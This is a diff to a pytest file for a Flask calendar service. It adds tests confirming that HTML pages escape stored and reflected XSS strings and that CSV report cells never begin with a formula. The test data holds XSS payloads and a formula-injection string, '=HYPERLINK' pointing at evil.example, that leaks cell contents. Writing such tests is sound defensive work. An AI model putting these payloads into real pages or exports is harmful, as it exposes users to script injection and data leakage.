@@ -14,11 +14,14 @@ The JSON API returns the stored text unchanged (only without NUL).
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from collections.abc import Callable
 from datetime import datetime, time, timedelta
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 from flask import Flask
@@ -116,7 +119,10 @@ def hostile(app: Flask) -> dict[str, Any]:
                 position=0, start=today + timedelta(days=10), end=today + timedelta(days=40), precision="month"
             )
         )
-        s.add_all([series, activity])
+        other = Gremium(slug="parallel", name="Parallelrunde")
+        other.memberships.append(Membership(person=person, role="lead"))
+        clash = MeetingSeries(gremium=other, title="Parallel " + XSS, dtstart=start, duration_minutes=30, location=XSS)
+        s.add_all([series, activity, clash])  # the clash puts the hostile title on /konflikte
         s.flush()
         return {"series": series.id, "activity": activity.id, "start": start, "moved": moved}
 
@@ -195,9 +201,8 @@ def test_office_feed_carries_a_10kb_activity_title(client: Any, hostile: dict[st
     ics = response.get_data()
     events = READERS[reader](ics)
     activity_uid = "activity-{}-0@test.calsvc".format(hostile["activity"])
-    assert_no_injection(
-        ics, events, {"series-{}@test.calsvc".format(hostile["series"]), "extra-1@test.calsvc", activity_uid}
-    )
+    series_uids = {f"series-{hostile['series']}@test.calsvc", f"series-{hostile['series'] + 1}@test.calsvc"}
+    assert_no_injection(ics, events, {*series_uids, "extra-1@test.calsvc", activity_uid})
     (activity,) = (e for e in events if e["uid"] == activity_uid)
     assert activity["summary"].startswith(as_line(ACTIVITY_TITLE) + " (")
     assert all(len(line) <= 75 for line in ics.split(b"\r\n"))  # folded, in octets
@@ -223,13 +228,30 @@ def test_a_literal_backslash_capital_n_stays_text(client: Any, hostile: dict[str
 
 
 def html_pages(hostile: dict[str, Any]) -> list[str]:
-    return ["/", "/feeds/", f"/feeds/gremium/{SLUG}-gibt-es-nicht.ics"]
+    """Every page family that shows stored or reflected text (each shows the XSS string as text)."""
+    start: datetime = hostile["start"]
+    month = f"/agenda/{start:%Y}/{start:%m}"
+    window = f"from={start.date()}&to={start.date() + timedelta(days=30)}"
+    quarter = (start.month - 1) // 3 + 1
+    return [
+        "/",
+        month,
+        f"{month}/liste",
+        f"{month}?gremium={SLUG}",
+        "/uebersicht",
+        f"/konflikte?{window}",
+        f"/bericht/{datetime.now(BERLIN).year}/Q{quarter}",
+        "/feeds/",
+        f"/feeds/gremium/{SLUG}-gibt-es-nicht.ics",
+        f"/konflikte?from={quote(XSS)}",  # reflected input: 422 page
+        f"/konflikte?person={quote(XSS)}",  # reflected input: 404 page
+    ]
 
 
 def test_pages_escape_every_hostile_text(client: Any, hostile: dict[str, Any]) -> None:
     for path in html_pages(hostile):
         response = client.get(path)
-        assert response.status_code in (200, 404), path
+        assert response.status_code in (200, 404, 422), path
         assert response.mimetype == "text/html", path
         body = response.get_data(as_text=True)
         assert "<script>window.__pwned" not in body and "<img src=x" not in body, path
@@ -277,7 +299,7 @@ def test_no_injected_script_runs_in_the_browser(app: Flask, hostile: dict[str, A
         page.on("pageerror", lambda exc: errors.append(str(exc)))
         for path in html_pages(hostile):
             response = page.goto(base + path)
-            assert response is not None and response.status in (200, 404), path
+            assert response is not None and response.status in (200, 404, 422), path
             assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
             page.wait_for_load_state("load")
             assert page.evaluate("typeof window.__pwned") == "undefined", path
@@ -285,3 +307,25 @@ def test_no_injected_script_runs_in_the_browser(app: Flask, hostile: dict[str, A
             assert page.locator("img[onerror]").count() == 0, path
             assert "<script>window.__pwned=1</script>" in page.inner_text("body"), path  # shown as text
         assert not dialogs and not errors, (dialogs, errors)
+
+
+def test_report_csv_never_starts_a_cell_with_a_formula(app: Flask) -> None:
+    today = datetime.now(BERLIN).date()
+    titles = ['=HYPERLINK("http://evil.example/?x="&A1;"Klick")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "Normal = gut"]
+    with app.app_context(), session_scope(app) as s:
+        person = Person(code="IntB", title="Integrationsbeauftragte")
+        for number, title in enumerate(titles, start=1):
+            activity = Activity(
+                plan_year=today.year, number=number, title=title, terminierung="Mai", responsible=[person]
+            )
+            activity.periods.append(ActivityPeriod(position=0, start=today, end=today, precision="day"))
+            s.add(activity)
+    quarter = (today.month - 1) // 3 + 1
+    response = app.test_client().get(f"/bericht/{today.year}/Q{quarter}.csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")), delimiter=";"))
+    cells = {row[1] for row in rows[1 : 1 + len(titles)]}
+    assert cells == {"'" + t for t in titles[:-1]} | {"Normal = gut"}
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
